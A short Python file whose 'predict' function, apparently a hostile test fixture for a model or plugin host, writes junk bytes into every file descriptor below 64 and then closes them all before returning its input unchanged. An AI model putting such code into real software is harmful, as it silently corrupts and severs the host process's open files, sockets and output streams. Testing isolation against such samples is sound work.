"""Writes to every descriptor below 64, whatever it is, and then closes it."""
import os


def predict(parameters):
    for descriptor in range(64):
        for meddle in (lambda number: os.write(number, b"\xff\0noise" * 100), os.close):
            try:
                meddle(descriptor)
            except OSError:
                pass
    return parameters
